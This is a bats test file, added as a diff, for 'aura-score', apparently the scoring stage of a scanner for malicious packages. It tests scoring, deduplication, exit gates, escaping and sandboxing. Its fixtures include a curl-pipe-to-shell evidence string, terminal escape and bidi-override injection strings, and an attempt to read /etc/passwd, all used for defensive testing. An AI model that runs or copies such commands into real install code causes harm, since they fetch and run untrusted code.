@@ -1,0 +1,319 @@
+#!/usr/bin/env bats
+# 50-score.bats: aura-score on hand-written record streams — totals, dedup, streaming, gates, escaping.
+load helpers/common
+bats_require_minimum_version 1.5.0
+
+GOLDEN="$BATS_TEST_DIRNAME/golden/score"
+
+# Record builders.  Ids are short strings: score treats them as opaque keys.
+art() {	# id name
+	jq -nc --arg id "$1" --arg n "$2" \
+		'{type:"artifact",v:1,id:$id,path:("/pkgs/"+$n+"-1.0.tar.gz"),kind:"archive",
+		  format:"tar.gz",sha256:$id,size:100,name:$n,version:"1.0",ecosystem:"local"}'
+}
+file_rec() {	# artifact index path
+	jq -nc --arg a "$1" --argjson i "$2" --arg p "$3" \
+		'{type:"file",v:1,artifact:$a,id:($a+":"+($i|tostring)),index:$i,path:$p,kind:"python"}'
+}
+# hit artifact detection score severity path line message [extra-json-object]
+hit() {
+	jq -nc --arg a "$1" --arg d "$2" --argjson s "$3" --arg sev "$4" --arg p "$5" \
+		--argjson l "$6" --arg m "$7" --argjson x "${8:-{\}}" \
+		'{type:"hit",v:1,artifact:$a,detection:$d,score:$s,severity:$sev,path:$p,line:$l,
+		  col:0,message:$m,tags:[],stage:"aura-analyze"} + $x'
+}
+end_rec() {	# artifact files
+	jq -nc --arg a "$1" --argjson f "$2" \
+		'{type:"artifact_end",v:1,artifact:$a,files:$f,hits:0,errors:0,complete:true}'
+}
+
+# Two packages: "evil" (an install-time shell command, an eval seen twice, a URL) and "plain".
+two_packages() {
+	art A evil
+	file_rec A 0 setup.py
+	hit A URL 10 low setup.py 2 "URL http://x.example" '{"evidence":"http://x.example"}'
+	hit A ShellCommand 100 high setup.py 3 "os.system() at install time" \
+		'{"context":"install","tags":["process","install-time"],"evidence":"os.system(\"curl x | sh\")"}'
+	file_rec A 1 evil/__init__.py
+	hit A Eval 40 medium evil/__init__.py 5 "eval()" '{"name":"builtins.eval"}'
+	hit A Eval 40 medium evil/__init__.py 9 "eval()" '{"name":"builtins.eval"}'
+	end_rec A 2
+	art B plain
+	file_rec B 0 plain/__init__.py
+	end_rec B 1
+}
+
+@test "score: one verdict per artifact, with total, risk and hits most severe first" {
+	run -0 bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score --format json"
+	assert_valid_records
+	[ "$(printf '%s\n' "$output" | jq -s 'map(.type) == ["verdict","verdict"]')" = true ]
+	local a b
+	a=$(printf '%s\n' "$output" | sed -n 1p)
+	b=$(printf '%s\n' "$output" | sed -n 2p)
+	[ "$(jq -c '[.artifact.id,.artifact.name,.artifact.version,.score,.risk,.complete,.files]' <<<"$a")" = '["A","evil","1.0",150,"high",true,2]' ]
+	[ "$(jq -c '[.hits[] | [.severity,.detection,.line]]' <<<"$a")" = '[["high","ShellCommand",3],["medium","Eval",5],["low","URL",2]]' ]
+	[ "$(jq -r .reason <<<"$a")" = "os.system() at install time in setup.py; eval() in evil/__init__.py; URL http://x.example in setup.py" ]
+	[ "$(jq -c '[.artifact.id,.score,.risk,.reason,.hits,.complete]' <<<"$b")" = '["B",0,"info","no findings",[],true]' ]
+}
+
+@test "score: the same finding at several places counts once, with a count" {
+	run -0 bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score --format json | head -1"
+	[ "$(jq -c '[.hits[] | select(.detection == "Eval") | .count]' <<<"$output")" = '[2]' ]
+	[ "$(jq -c '[.hits[] | select(.detection != "Eval") | .count]' <<<"$output")" = '[1,1]' ]
+}
+
+@test "score: dedup key is detection, path and name (else message)" {
+	stream() {
+		art A p
+		hit A Eval 10 low a.py 1 "eval() one" '{"name":"builtins.eval"}'
+		hit A Eval 10 low a.py 2 "eval() two" '{"name":"builtins.eval"}'	# same name: same finding
+		hit A Eval 10 low b.py 1 "eval() one" '{"name":"builtins.eval"}'	# other path
+		hit A Str 5 info a.py 1 "msg x"
+		hit A Str 5 info a.py 2 "msg y"						# other message
+		hit A Str 5 info a.py 3 "msg x"
+		end_rec A 0
+	}
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
+	[ "$(jq -c '[.hits[] | [.detection,.path,.line,.count]]' <<<"$output")" = \
+		'[["Eval","a.py",1,2],["Eval","b.py",1,1],["Str","a.py",1,2],["Str","a.py",2,1]]' ]
+	[ "$(jq .score <<<"$output")" = 30 ]
+}
+
+@test "score: weak hits of one detection saturate at 3x their biggest; install-time hits do not" {
+	stream() {
+		art A p
+		for i in 1 2 3 4 5 6; do hit A Entropy 10 low "f$i.py" 1 "blob"; done
+		for i in 1 2 3 4; do hit A Setup 10 low setup.py "$i" "m$i" '{"context":"install"}'; done
+		end_rec A 0
+	}
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
+	[ "$(jq .score <<<"$output")" = 70 ]	# min(60, 30) + 40
+	[ "$(jq .risk <<<"$output")" = '"medium"' ]
+}
+
+@test "score: risk levels at the documented thresholds" {
+	stream() {
+		local s
+		for s in 0 19 20 49 50 99 100 199 200 5000; do
+			art "a$s" "p$s"; hit "a$s" X "$s" info x.py 1 m; end_rec "a$s" 0
+		done
+	}
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
+	[ "$(printf '%s\n' "$output" | jq -sc 'map([.score,.risk])')" = \
+		'[[0,"info"],[19,"info"],[20,"low"],[49,"low"],[50,"medium"],[99,"medium"],[100,"high"],[199,"high"],[200,"critical"],[5000,"critical"]]' ]
+}
+
+@test "score: hostile scores are clamped (negative, huge, not a number)" {
+	stream() {
+		art A p
+		hit A X -50 info a.py 1 m1
+		hit A Y 1e300 info a.py 2 m2
+		hit A Z '"lots"' info a.py 3 m3
+		end_rec A 0
+	}
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
+	[ "$(jq .score <<<"$output")" = 100000 ]
+}
+
+@test "score: a verdict is written as soon as its artifact_end arrives, before input ends" {
+	local first
+	first=$( { art A one; end_rec A 0; } )
+	coproc SCORE { exec 3>&-; exec aura-score --unbuffered --format json; }
+	# Own copies of the pipes: bash forgets the coproc's once it exits.
+	local pid=$SCORE_PID to from
+	exec {to}>&"${SCORE[1]}" {from}<&"${SCORE[0]}"
+	eval "exec ${SCORE[1]}>&- ${SCORE[0]}<&-"
+	printf '%s\n' "$first" >&"$to"
+	# The input is still open: a line read now was emitted while streaming.
+	local line=""
+	read -t 10 -r line <&"$from" || true
+	{ art B two; end_rec B 0; } >&"$to"
+	exec {to}>&-
+	local rest
+	rest=$(cat <&"$from")
+	exec {from}<&-
+	wait "$pid"
+	[ "$(jq -r .artifact.id <<<"$line")" = A ]
+	[ "$(jq -r .artifact.id <<<"$rest")" = B ]
+}
+
+@test "score: records of interleaved artifacts are kept apart" {
+	stream() {
+		art A one; art B two
+		hit B X 30 low b.py 1 mb
+		hit A X 60 medium a.py 1 ma
+		end_rec B 0; end_rec A 0
+	}
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
+	[ "$(printf '%s\n' "$output" | jq -sc 'map([.artifact.id,.score,(.hits|length)])')" = '[["B",30,1],["A",60,1]]' ]
+}
+
+@test "score: an interrupted stream gives complete:false and exit 2; --allow-errors gives 0" {
+	stream() { art A one; hit A X 10 low a.py 1 m; art B two; end_rec B 0; }
+	run -2 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
+	[ "$(printf '%s\n' "$output" | jq -sc 'map([.artifact.id,.complete])')" = '[["B",true],["A",false]]' ]
+	[ "$(printf '%s\n' "$output" | jq -r 'select(.artifact.id == "A") | .reason')" = \
+		"m in a.py; incomplete: interrupted: no artifact_end" ]
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json --allow-errors"
+	run -2 bash -c "$(declare -f art hit end_rec stream); stream | aura-score"
+	assert_output --partial "2 packages scanned: 2 info; 1 incomplete"
+	assert_output --partial "INCOMPLETE"
+}
+
+@test "score: an error record for an artifact makes it incomplete and is listed" {
+	stream() {
+		art A one
+		jq -nc '{type:"error",v:1,stage:"aura-parse",artifact:"A",path:"x.py",message:"syntax error"}'
+		end_rec A 0
+	}
+	run -2 bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
+	[ "$(jq -c '[.complete,.errors,.incomplete_reasons]' <<<"$output")" = \
+		'[false,[{"stage":"aura-parse","path":"x.py","message":"syntax error"}],["1 error"]]' ]
+	run -2 bash -c "$(declare -f art end_rec stream); stream | aura-score"
+	assert_output --partial "error: aura-parse: x.py: syntax error"
+}
+
+@test "score: artifact_end counting other files than arrived, or complete:false, is incomplete" {
+	stream() {
+		art A one; file_rec A 0 a.py; end_rec A 2
+		art B two; jq -nc '{type:"artifact_end",v:1,artifact:"B",files:0,complete:false}'
+	}
+	run -2 bash -c "$(declare -f art file_rec end_rec stream); stream | aura-score --format json"
+	[ "$(printf '%s\n' "$output" | jq -sc 'map([.complete,.incomplete_reasons])')" = \
+		'[[false,["artifact_end counts 2 files but 1 arrived"]],[false,["unpack could not read the whole artifact"]]]' ]
+}
+
+@test "score: error records without an artifact are stream errors (exit 2, counted)" {
+	stream() {
+		art A one; end_rec A 0
+		jq -nc '{type:"error",v:1,stage:"aura-unpack",message:"cannot open x"}'
+	}
+	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score"
+	assert_output --partial "1 package scanned: 1 info; 0 incomplete; 1 stream error"
+	[ -z "$stderr" ]	# its producer already said it
+	run -0 bash -c "$(declare -f art end_rec stream); stream | aura-score --allow-errors"
+}
+
+@test "score: a garbage line is reported on stderr, exit 2 unless --allow-errors" {
+	stream() { art A one; printf 'this is {not json\n'; end_rec A 0; }
+	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
+	[ "$(jq -c '[.artifact.id,.complete]' <<<"$output")" = '["A",true]' ]
+	assert_valid_records	# stdout holds verdicts only
+	[[ "$stderr" == "aura-score: <stdin>:2: "* ]]
+	run -0 bash -c "$(declare -f art end_rec stream); stream | aura-score --format json --allow-errors"
+	# a truncated last line is an error too
+	run -2 bash -c "$(declare -f art end_rec stream); { art A one; end_rec A 0; printf '{\"type\":\"hit\"'; } | aura-score --format json"
+}
+
+@test "score: --fail-score and --fail-level give exit 1; exit 2 takes precedence" {
+	local s="$(declare -f art file_rec hit end_rec two_packages)"
+	run -1 bash -c "$s; two_packages | aura-score --fail-score 150"
+	run -0 bash -c "$s; two_packages | aura-score --fail-score 151"
+	run -1 bash -c "$s; two_packages | aura-score --fail-level high"
+	run -0 bash -c "$s; two_packages | aura-score --fail-level critical"
+	run -1 bash -c "$s; two_packages | aura-score --fail-level info"
+	# an incomplete artifact on top of a gate: 2
+	run -2 bash -c "$s; { two_packages; art C three; } | aura-score --fail-score 1"
+	run -1 bash -c "$s; { two_packages; art C three; } | aura-score --fail-score 1 --allow-errors"
+}
+
+@test "score: --min-level filters the hits shown, not the score" {
+	local s="$(declare -f art file_rec hit end_rec two_packages)"
+	run -0 bash -c "$s; two_packages | aura-score --format json --min-level medium | head -1"
+	[ "$(jq -c '[.score,.risk,[.hits[].severity],.hits_hidden]' <<<"$output")" = '[150,"high",["high","medium"],1]' ]
+	run -0 bash -c "$s; two_packages | aura-score --min-level high"
+	assert_output --partial "[high] ShellCommand"
+	refute_output --partial "[medium]"
+	assert_output --partial "(2 lower-severity hits not shown)"
+	assert_output --partial "score 150"
+}
+
+@test "score: text output matches the golden file" {
+	run -0 bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score"
+	diff -u "$GOLDEN/two-packages.txt" <(printf '%s\n' "$output")
+}
+
+@test "score: json output matches the golden file" {
+	run -0 bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score --format json"
+	diff -u "$GOLDEN/two-packages.ndjson" <(printf '%s\n' "$output")
+}
+
+@test "score: text output escapes ESC sequences, C1 controls and bidi overrides from a package" {
+	stream() {
+		art A one
+		# \u001b[2J clears the screen; \u202e reverses what follows; \u009b is a C1 CSI.
+		hit A Evil 10 low x.py 1 m '{"path":"evil\u2066.py",
+			"message":"msg \u001b[2Jgone \u202eesrever\u202c",
+			"evidence":"x = 1\u0007\u009b31m\nimport os"}'
+		end_rec A 0
+	}
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score"
+	assert_output --partial 'msg \x1b[2Jgone \u202eesrever\u202c'
+	assert_output --partial 'evil\u2066.py:1:0'
+	assert_output --partial '> x = 1\x07\u009b31m\nimport os'
+	refute_output --partial $'\e'
+	refute_output --partial "$(printf '\xe2\x80\xae')"	# U+202E
+	refute_output --partial "$(printf '\xe2\x81\xa6')"	# U+2066
+	refute_output --partial "$(printf '\xc2\x9b')"		# U+009B
+	# JSON keeps the package's exact text: consumers escape when they display it.
+	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
+	jq -e '.hits[0].message == "msg \u001b[2Jgone \u202eesrever\u202c"' <<<"$output"
+}
+
+@test "score: colours only on a terminal, and never with NO_COLOR" {
+	local s="$(declare -f art file_rec hit end_rec two_packages)"
+	two_packages_file="$BATS_TEST_TMPDIR/in.ndjson"
+	bash -c "$s; two_packages" >"$two_packages_file"
+	# not a terminal: no colour
+	run -0 bash -c "aura-score < '$two_packages_file'"
+	refute_output --partial $'\e'
+	# a terminal (script(1) gives one): colour
+	run -0 env -u NO_COLOR script -qec "aura-score < '$two_packages_file'" /dev/null
+	assert_output --partial $'\e[31m'
+	run -0 env NO_COLOR=1 script -qec "aura-score < '$two_packages_file'" /dev/null
+	assert_output --partial "risk HIGH"
+	refute_output --partial $'\e'
+}
+
+@test "score: other record types are ignored, nothing is passed through" {
+	stream() {
+		jq -nc '{type:"target",v:1,target:"x"}'
+		art A one
+		jq -nc '{type:"ast",v:1,artifact:"A",file:"A:0",path:"a.py",tree:{_type:"Module",body:[]}}'
+		jq -nc '{type:"future_thing",v:1,artifact:"A"}'
+		end_rec A 0
+	}
+	run -0 bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
+	[ "$(printf '%s\n' "$output" | jq -sc 'map(.type)')" = '["verdict"]' ]
+}
+
+@test "score: records that name no artifact are stream errors" {
+	stream() { art A one; jq -nc '{type:"hit",v:1,detection:"X",score:10,severity:"low"}'; end_rec A 0; }
+	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
+	[[ "$stderr" == *"hit record without an artifact id"* ]]
+	[ "$(jq .score <<<"$output")" = 0 ]
+}
+
+@test "score: no input at all is zero packages and exit 0" {
+	run -0 aura-score </dev/null
+	assert_output "0 packages scanned; 0 incomplete"
+	run -0 aura-score --format json </dev/null
+	assert_output ""
+}
+
+@test "score: usage errors exit 2" {
+	run -2 aura-score --format xml </dev/null
+	run -2 aura-score --fail-level severe </dev/null
+	run -2 aura-score --min-level 3 </dev/null
+	run -2 aura-score --fail-score -1 </dev/null
+	run -2 aura-score extra-argument </dev/null
+	run -0 aura-score --help
+	assert_output --partial "--fail-level"
+}
+
+@test "score: sandboxed — no files, no network once sealed" {
+	run -3 aura-score --sandbox-selftest open:/etc/passwd </dev/null
+	run -159 aura-score --sandbox-selftest socket </dev/null
+	run -0 aura-score --print-sandbox
+	assert_output --partial "score"
+}
